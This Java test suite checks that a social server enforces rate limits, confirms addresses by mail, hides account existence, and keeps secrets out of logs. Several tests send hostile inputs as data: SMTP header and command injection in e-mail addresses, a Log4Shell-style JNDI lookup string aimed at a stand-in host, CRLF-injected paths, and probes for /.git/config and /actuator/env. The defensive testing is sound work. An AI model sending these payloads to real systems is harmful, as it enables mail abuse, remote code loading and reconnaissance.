package verbatim.server;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.sun.management.HotSpotDiagnosticMXBean;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;
import verbatim.Waiting;
import verbatim.accounts.Handle;
import verbatim.accounts.Standing;
import verbatim.http.Access;
import verbatim.http.Route;
import verbatim.kernel.Limits;
import verbatim.mail.SmtpSink;

/// The server as it runs for people: limits hold, addresses are confirmed by mail. It stands behind
/// a proxy here, so that each situation comes from a network of its own.
class AtTheDoorInEarnestTest {
  private static final String WRONG = "not the password at all";
  private static final Limits.People LIMITS = Limits.usual().people();
  private static final AtomicInteger networks = new AtomicInteger();

  @TempDir static Path folder;
  static SmtpSink sink;
  static RunningServer server;
  static Map<String, String> app;

  @BeforeAll
  static void open() throws IOException {
    sink = new SmtpSink("250 ok");
    server =
        RunningServer.inEarnest(
            folder.resolve("proxied"),
            Map.of(
                "smtp-host", "127.0.0.1",
                "smtp-port", Integer.toString(sink.port()),
                "smtp-security", "none",
                "mail-from", "town@town.test",
                "trusted-proxies", "127.0.0.1"));
    app = somebody().app("read write follow", Stranger.OUT_OF_BAND);
  }

  @AfterAll
  static void close() throws IOException {
    server.close();
    sink.close();
  }

  /// Somebody from a network where nobody was before.
  private static Stranger somebody() {
    int n = networks.incrementAndGet();
    return new Stranger(server, "X-Forwarded-For", "203.0." + n / 250 + "." + (1 + n % 250));
  }

  /// Somebody who has joined and opened the link in the letter; answers the first token.
  private static String member(Stranger who, String name) {
    String token = who.joins(app, name);
    confirm(who, "/auth/confirm", link(name + "@mail.example", "/auth/confirm"));
    return token;
  }

  private static Stranger.Reply confirm(Stranger who, String path, String link) {
    return who.submit(path + "?token=" + link, path, Map.of("token", link));
  }

  /// The link in the last letter to this address.
  private static String link(String email, String path) {
    server.sendLetters();
    String[] letters = sink.data().split("(?m)^To: ");
    for (int i = letters.length - 1; i >= 0; i--) {
      Matcher link = Pattern.compile(Pattern.quote(path) + "\\?token=(\\S+)").matcher(letters[i]);
      if (letters[i].startsWith(email) && link.find()) {
        return link.group(1);
      }
    }
    throw new AssertionError("no letter with " + path + " to " + email);
  }

  private static long lettersTo(String email) {
    server.sendLetters();
    return sink.commands().stream().filter(c -> c.equals("RCPT TO:<" + email + ">")).count();
  }

  private static int me(Stranger who, String token) {
    return who.api("GET", "/api/v1/accounts/verify_credentials", token, null).status();
  }

  // ---- what was typed outlives a limit

  @Test
  void whoever_posts_too_much_gets_every_word_back() {
    Stranger writer = somebody();
    String token = member(writer, "wordy");
    writer.signIn("wordy", Stranger.PASSWORD);
    Map<String, Object> nothing = Map.of("status", " ");
    int refused = 422;
    for (int i = 0; refused == 422 && i <= 300; i++) {
      refused = writer.api("POST", "/api/v1/statuses", token, nothing).status();
    }
    assertThat(refused).isEqualTo(429);
    Map<String, String> form = Map.of("text", "The first part", "more[1][text]", "The second");
    Stranger.Reply late = writer.submit("/compose", "/compose", form);
    assertThat(late.status()).isEqualTo(429);
    assertThat(late.header("Retry-After")).isNotEmpty();
    assertThat(late.body()).contains(">The first part</textarea>", ">The second</textarea>");
    Stranger.Reply draft =
        writer.submit(
            "/compose", "/compose/sheet", Map.of("text", "The first part", "do", "draft"));
    assertThat(draft.status()).as("drafts are not posts").isEqualTo(303);
  }

  @Tag("long")
  @Test
  void whoever_asks_for_too_many_pages_loses_no_word_either() {
    Stranger writer = somebody();
    member(writer, "hasty");
    writer.signIn("hasty", Stranger.PASSWORD);
    Stranger.Reply blank = writer.page("/compose");
    Map<String, String> form =
        Map.of(
            "form_token", blank.hidden("form_token"),
            "writer", blank.hidden("writer"),
            "text", "What I meant");
    int status = 404;
    for (int i = 0; status == 404 && i <= 7_500; i++) {
      status = writer.api("GET", "/media/none", "", null).status();
    }
    assertThat(status).isEqualTo(429);
    Stranger.Reply late = writer.form("/compose", form);
    assertThat(late.status()).isEqualTo(429);
    assertThat(late.body()).contains("Your words are kept", "/compose?kept=yes");
    Stranger elsewhere = somebody();
    elsewhere.cookies.putAll(writer.cookies);
    assertThat(elsewhere.page("/compose?kept=yes").body()).contains(">What I meant</textarea>");
  }

  // ---- api-05

  @Test
  void whatever_addresses_one_claims_guessing_and_joining_end_at_the_same_number()
      throws IOException {
    try (RunningServer direct = RunningServer.inEarnest(folder.resolve("direct"), Map.of())) {
      assertThat(firstRefused(i -> new Stranger(direct, claims("198.51.100." + i)))).isEqualTo(26);
      Stranger one = new Stranger(direct, claims("198.51.100.7"));
      assertThat(
              one.api(
                      "POST",
                      "/api/v1/apps",
                      "",
                      Map.of("client_name", "x", "redirect_uris", Stranger.OUT_OF_BAND))
                  .status())
          .isEqualTo(200);
      int joined = 0;
      for (int i = 0; i < 50; i++) {
        Stranger next = new Stranger(direct, claims("198.51.100." + i));
        joined +=
            next.api(
                            "POST",
                            "/api/v1/apps",
                            "",
                            Map.of("client_name", "x", "redirect_uris", Stranger.OUT_OF_BAND))
                        .status()
                    == 200
                ? 1
                : 0;
      }
      assertThat(joined).isEqualTo(LIMITS.registrationsPerAddressMax() - 1);
    }
    // On a server of its own too: the time in which it counts begins with it.
    try (RunningServer proxied =
        RunningServer.inEarnest(
            folder.resolve("counting"), Map.of("trusted-proxies", "127.0.0.1"))) {
      assertThat(
              firstRefused(
                  i -> new Stranger(proxied, claims("198.51.100." + i + ", 203.0.113.200"))))
          .isEqualTo(26);
    }
  }

  private static String[] claims(String address) {
    String first = address.split(",", 2)[0];
    return new String[] {
      "X-Forwarded-For", address, "Forwarded", "for=" + first, "X-Real-IP", first
    };
  }

  private static int firstRefused(java.util.function.IntFunction<Stranger> strangers) {
    for (int i = 1; i <= 60; i++) {
      Stranger next = strangers.apply(i);
      if (next.signIn("name" + i, WRONG).status() == 429) {
        return i;
      }
    }
    return -1;
  }

  // ---- api-06

  @Test
  void an_address_gets_a_handful_of_letters_whoever_asks_and_in_whatever_way() {
    String email = "bothered@mail.example";
    somebody().joins(app, "bothered");
    for (int i = 0; i < 50; i++) {
      Stranger next = somebody();
      assertThat(next.submit("/auth/resend", "/auth/resend", Map.of("email", email)).status())
          .isIn(200, 422, 429);
      next.submit("/auth/password/forgot", "/auth/password/forgot", Map.of("email", email));
      next.api(
          "POST", "/api/v1/accounts", app.get("app_token"), Stranger.newcomer("other" + i, email));
    }
    assertThat(lettersTo(email)).isBetween(1L, 2L * LIMITS.mailsPerAddressMax());
  }

  @Test
  void nobody_sends_letters_to_fifty_addresses() {
    Stranger sender = somebody();
    String token = sender.joins(app, "sender");
    for (int i = 0; i < 50; i++) {
      sender.api(
          "POST",
          "/api/v1/emails/confirmations",
          token,
          Map.of("email", "victim" + i + "@victims.example"));
      sender.submit(
          "/auth/password/forgot",
          "/auth/password/forgot",
          Map.of("email", "victim" + i + "@victims.example"));
    }
    server.sendLetters();
    assertThat(sink.commands().stream().filter(c -> c.endsWith("@victims.example>")).count())
        .isLessThanOrEqualTo(LIMITS.mailsPerAddressMax());
  }

  // ---- api-07

  @Test
  void an_ambiguous_address_is_refused_or_gets_exactly_its_own_letter() {
    int tried = 0;
    for (String email :
        List.of(
            "a%b@x.test",
            "\"a,b\"@x.test",
            "a@x.test,b@y.test",
            "a@x.test\r\nBcc:c@z.test",
            "a".repeat(320) + "@x.test",
            "a@пример.test",
            "\"quoted part\"@x.test",
            "a@x.test ",
            "<a@x.test>",
            "a@@x.test",
            "a@x.test>\r\nRCPT TO:<c@z.test")) {
      int before = recipients().size();
      Stranger.Reply reply =
          somebody()
              .api(
                  "POST",
                  "/api/v1/accounts",
                  app.get("app_token"),
                  Stranger.newcomer("odd" + tried++, email));
      server.sendLetters();
      List<String> now = recipients().subList(before, recipients().size());
      if (reply.status() == 200) {
        assertThat(now).containsExactly("RCPT TO:<" + email.strip() + ">");
      } else {
        assertThat(reply.status()).as(email).isEqualTo(422);
        assertThat(reply.json().path("details").has("email")).as(reply.body()).isTrue();
        assertThat(now).isEmpty();
      }
    }
    assertThat(sink.data()).doesNotContain("Bcc:", "z.test");
  }

  private static List<String> recipients() {
    return sink.commands().stream().filter(c -> c.startsWith("RCPT")).toList();
  }

  // ---- api-08

  @Test
  void who_guesses_learns_neither_names_nor_addresses() {
    member(somebody(), "known");
    somebody().joins(app, "waits");
    String unknown = told(somebody().signIn("nobody_here", WRONG), "nobody_here");
    for (String login : List.of("known", "known@mail.example", "waits", "nobody@mail.example")) {
      assertThat(told(somebody().signIn(login, WRONG), login)).isEqualTo(unknown);
    }
    String noReset = told(forgets("nobody@mail.example"), "nobody@mail.example");
    for (String email : List.of("known@mail.example", "waits@mail.example")) {
      assertThat(told(forgets(email), email)).isEqualTo(noReset);
    }
  }

  private static Stranger.Reply forgets(String email) {
    return somebody()
        .submit("/auth/password/forgot", "/auth/password/forgot", Map.of("email", email));
  }

  /// All that the client gets, without what it sent itself and what differs each time.
  private static String told(Stranger.Reply reply, String sent) {
    Map<String, List<String>> headers = new java.util.TreeMap<>(reply.headers());
    headers
        .keySet()
        .removeAll(List.of("date", "x-request-id", "content-length", "x-ratelimit-reset"));
    return reply.status()
        + " "
        + headers
        + reply
            .body()
            .replaceAll("name=\"form_token\" value=\"[^\"]*\"", "")
            .replaceAll("data-question=\"[^\"]*\"", "")
            .replace(sent, "LOGIN");
  }

  // ---- api-09

  @Test
  void who_may_not_act_reads_nothing_either() {
    Stranger held = somebody();
    String token = held.joins(app, "held");
    assertClosed(token, "unconfirmed");
    confirm(held, "/auth/confirm", link("held@mail.example", "/auth/confirm"));
    assertThat(me(held, token)).isEqualTo(200);
    for (Standing.State state :
        List.of(Standing.State.PENDING, Standing.State.DISABLED, Standing.State.SUSPENDED)) {
      String name = "held_" + state.name().toLowerCase(Locale.ROOT);
      String itsToken = member(somebody(), name);
      var account = server.accounts().find(Handle.here(name)).orElseThrow();
      server
          .accounts()
          .change(account.id(), a -> a.with(new Standing(state, Standing.Role.USER, false)));
      assertClosed(itsToken, state.toString());
    }
  }

  /// Every route that looks at tokens, but for what ends a token or finishes joining.
  private static void assertClosed(String token, String state) {
    int tried = 0;
    for (Route route : server.routes()) {
      boolean reads =
          route.access() instanceof Access.User
              || route.access() instanceof Access.Optional
              || route.access() instanceof Access.Stream;
      if (reads) {
        boolean hasBody = !List.of("GET", "DELETE").contains(route.method().name());
        // Each from another network, since who comes with a token that does not count is counted by
        // it.
        Stranger.Reply reply =
            somebody()
                .api(
                    route.method().name(),
                    route.path().replaceAll("[:*]\\w+", "1"),
                    token,
                    hasBody ? Map.of() : null,
                    route.accepts().isEmpty()
                        ? new String[0]
                        : new String[] {"Accept", route.accepts().iterator().next()});
        assertThat(reply.status())
            .as(state + " " + route.path() + " " + reply.body())
            .isIn(401, 403);
        assertThat(reply.text("error")).isNotEmpty();
        tried++;
      }
    }
    assertThat(tried).isGreaterThan(100);
  }

  // ---- oauth-07

  @Test
  void a_new_password_by_page_by_letter_or_by_command_ends_everything_else() {
    for (String way : List.of("page", "letter", "command")) {
      String name = "changes_" + way;
      Stranger here = somebody();
      String token = member(here, name);
      here.signIn(name, Stranger.PASSWORD);
      Stranger elsewhere = somebody();
      elsewhere.signIn(name, Stranger.PASSWORD);
      assertThat(elsewhere.page("/settings/security").status()).isEqualTo(200);
      assertThat(me(here, token)).isEqualTo(200);
      OpenStream stream = OpenStream.ofToken(server.url(), token);
      assertThat(stream.status).isEqualTo(200);
      switch (way) {
        case "page" ->
            assertThat(
                    here.submit(
                            "/settings/security",
                            "/settings/security/password",
                            Map.of(
                                "current_password",
                                Stranger.PASSWORD,
                                "password",
                                "another long password"))
                        .status())
                .isEqualTo(303);
        case "letter" -> {
          String email = name + "@mail.example";
          somebody()
              .submit("/auth/password/forgot", "/auth/password/forgot", Map.of("email", email));
          String link = link(email, "/auth/reset");
          Stranger resets = somebody();
          Map<String, String> form = Map.of("token", link, "password", "another long password");
          assertThat(resets.submit("/auth/reset?token=" + link, "/auth/reset", form).status())
              .isEqualTo(200);
          assertThat(resets.submit("/auth/reset?token=" + link, "/auth/reset", form).status())
              .isEqualTo(422);
        }
        default ->
            server.command(
                "another long password", "account", "password", name, "--password-stdin");
      }
      assertThat(me(here, token)).as(way).isEqualTo(401);
      stream.awaitsItsEnd();
      assertThat(elsewhere.page("/settings/security").status()).as(way).isNotEqualTo(200);
      assertThat(here.page("/settings/security").status() == 200)
          .as(way)
          .isEqualTo(way.equals("page"));
      assertThat(somebody().signIn(name, Stranger.PASSWORD).status()).as(way).isEqualTo(422);
      assertThat(somebody().signIn(name, "another long password").status()).as(way).isEqualTo(303);
    }
  }

  // ---- oauth-09

  @Test
  void a_new_mail_address_wants_the_password_and_its_own_link_and_can_be_undone() {
    Stranger mara = somebody();
    String token = member(mara, "mara");
    mara.signIn("mara", Stranger.PASSWORD);
    assertThat(changesMail(mara, "thief@mail.example", WRONG).status()).isEqualTo(422);
    mara.api(
        "PATCH",
        "/api/v1/accounts/update_credentials",
        token,
        Map.of("email", "thief@mail.example", "confirmed", true, "email_verified", true));
    assertThat(lettersTo("thief@mail.example")).isZero();

    assertThat(changesMail(mara, "first@mail.example", Stranger.PASSWORD).status()).isEqualTo(303);
    String first = link("first@mail.example", "/auth/confirm");
    String undo = link("mara@mail.example", "/auth/undo");
    assertThat(somebody().signIn("first@mail.example", Stranger.PASSWORD).status()).isEqualTo(422);
    forgets("first@mail.example");
    assertThat(changesMail(mara, "second@mail.example", Stranger.PASSWORD).status()).isEqualTo(303);
    String second = link("second@mail.example", "/auth/confirm");
    assertThat(confirm(somebody(), "/auth/confirm", first).status()).isEqualTo(422);
    assertThat(confirm(somebody(), "/auth/confirm", second).status()).isEqualTo(200);
    assertThat(confirm(somebody(), "/auth/confirm", second).status()).isEqualTo(422);
    assertThat(somebody().signIn("second@mail.example", Stranger.PASSWORD).status()).isEqualTo(303);
    assertThat(somebody().signIn("mara@mail.example", Stranger.PASSWORD).status()).isEqualTo(422);
    String undoNow = link("mara@mail.example", "/auth/undo");
    int undone = confirm(somebody(), "/auth/undo", undoNow).status();
    if (undone != 200) {
      undone = confirm(somebody(), "/auth/undo", undo).status();
    }
    assertThat(undone).isEqualTo(200);
    assertThat(somebody().signIn("second@mail.example", Stranger.PASSWORD).status()).isEqualTo(422);
    assertThat(me(somebody(), token)).isEqualTo(401);
  }

  private static Stranger.Reply changesMail(Stranger who, String email, String password) {
    return who.submit(
        "/settings/security",
        "/settings/security/email",
        Map.of("email", email, "current_password", password));
  }

  // ---- ops-03

  @Test
  void no_word_token_address_or_secret_reaches_the_log() throws IOException {
    Logger root = (Logger) LoggerFactory.getLogger("verbatim");
    Level was = root.getLevel();
    ListAppender<ILoggingEvent> lines = new ListAppender<>();
    lines.start();
    root.addAppender(lines);
    root.setLevel(Level.DEBUG);
    List<String> secrets =
        new ArrayList<>(List.of("zymurgy", "quixotry", Stranger.PASSWORD, WRONG));
    try {
      Stranger who = somebody();
      String token = member(who, "zymurgy_name");
      secrets.add(token);
      who.signIn("zymurgy_name", Stranger.PASSWORD);
      secrets.addAll(who.cookies.values());
      for (String visibility : List.of("public", "private", "direct")) {
        who.api(
            "POST",
            "/api/v1/statuses",
            token,
            Map.of("status", "quixotry #quixotry", "visibility", visibility));
      }
      Stranger other = somebody();
      String otherToken = member(other, "zymurgy_other");
      secrets.add(otherToken);
      String otherId =
          other.api("GET", "/api/v1/accounts/verify_credentials", otherToken, null).text("id");
      String all = "/api/v1/private/conversations";
      String talk = who.api("POST", all, token, Map.of("members", List.of(otherId))).text("id");
      Stranger.Reply said =
          who.api(
              "POST", all + "/" + talk + "/messages", token, Map.of("text", "quixotry in private"));
      assertThat(said.status()).as(said.body()).isEqualTo(200);
      assertThat(other.api("GET", all, otherToken, null).body()).contains("quixotry in private");
      String hostile = "quixotry[31m ${jndi:ldap://quixotry.example/a}" + "x".repeat(4_000);
      who.api(
          "GET", "/api/v1/timelines/tag/quixotry?q=quixotry", token, null, "User-Agent", hostile);
      who.api(
          "GET",
          "/quixotry/%0d%0aquixotry?access_token=" + token,
          token,
          null,
          "X-Request-Id",
          "quixotry");
      who.api(
          "POST",
          "/api/v1/statuses",
          token,
          "{\"status\": \"quixotry",
          "Content-Type",
          "application/json");
      who.api("GET", "/api/v1/statuses/1", "quixotry-token", null);
      who.page("/@zymurgy_name");
      changesMail(who, "zymurgy2@mail.example", Stranger.PASSWORD);
      somebody().signIn("zymurgy_name", WRONG);
      forgets("zymurgy_name@mail.example");
      server.sendLetters();
      server.settle();
      assertThat(threadDump().toLowerCase(Locale.ROOT))
          .contains("reactions")
          .doesNotContain(lowerCased(secrets));
    } finally {
      root.detachAppender(lines);
      root.setLevel(was);
    }
    assertThat(lines.list).isNotEmpty();
    for (ILoggingEvent line : lines.list) {
      String said =
          line.getFormattedMessage()
              + " "
              + line.getKeyValuePairs()
              + " "
              + Arrays.toString(line.getArgumentArray());
      assertThat(said.toLowerCase(Locale.ROOT)).doesNotContain(lowerCased(secrets));
      assertThat(said).doesNotContain("203.0.", "\n", "\r", "\u001b").hasSizeLessThan(8_000);
    }
  }

  private static String[] lowerCased(List<String> secrets) {
    return secrets.stream().map(s -> s.toLowerCase(Locale.ROOT)).toArray(String[]::new);
  }

  /// What an operator would be asked for when the server hangs: all threads, the virtual ones too.
  private static String threadDump() throws IOException {
    Path file = folder.resolve("threads.json").toAbsolutePath();
    ManagementFactory.getPlatformMXBean(HotSpotDiagnosticMXBean.class)
        .dumpThreads(file.toString(), HotSpotDiagnosticMXBean.ThreadDumpFormat.JSON);
    return Files.readString(file);
  }

  // ---- ops-04, ops-06

  @Test
  void the_operators_pages_are_not_there_for_strangers() {
    Stranger who = somebody();
    for (String path :
        List.of(
            "/metrics",
            "/admin",
            "/design",
            "/api/v1/admin/accounts",
            "/api/v1/admin/reports",
            "/.git/config",
            "/actuator",
            "/actuator/env",
            "/debug",
            "/data/store/CURRENT")) {
      Stranger.Reply reply = who.api("GET", path, "", null);
      assertThat(reply.status()).as(path).isEqualTo(404);
      assertThat(reply.body().toLowerCase(Locale.ROOT))
          .as(path)
          .doesNotContain("jetty", "java", "exception");
    }
    assertThat(who.api("TRACE", "/", "", null).status()).isEqualTo(405);
    Stranger.Reply health = who.api("GET", "/health", "", null);
    assertThat(health.body()).isEqualTo("{\"status\":\"up\"}");
    assertThat(health.headers()).doesNotContainKeys("server", "x-powered-by");
  }

  @Test
  void the_first_who_comes_is_a_member_like_any_other() throws IOException {
    try (RunningServer fresh = RunningServer.inEarnest(folder.resolve("fresh"), Map.of())) {
      Stranger first = new Stranger(fresh);
      Map<String, String> itsApp = first.app("read write", Stranger.OUT_OF_BAND);
      List<java.util.concurrent.Callable<String>> race =
          List.of(() -> first.joins(itsApp, "first"), () -> first.joins(itsApp, "second"));
      for (String token : verbatim.kernel.Fork.all(Waiting.PATIENCE, race)) {
        Stranger.Reply me = first.api("GET", "/api/v1/accounts/verify_credentials", token, null);
        assertThat(me.json().path("role").path("permissions").asString()).isEqualTo("0");
      }
      first.signIn("first", Stranger.PASSWORD);
      assertThat(first.submit("/setup?code=guess", "/setup", Map.of("token", "guess")).status())
          .isEqualTo(422);
      assertThat(first.page("/setup?done=yes").status()).isEqualTo(404);
      for (String name : List.of("first", "second")) {
        assertThat(fresh.accounts().find(Handle.here(name)).orElseThrow().standing().role())
            .isEqualTo(Standing.Role.USER);
      }
    }
  }
}
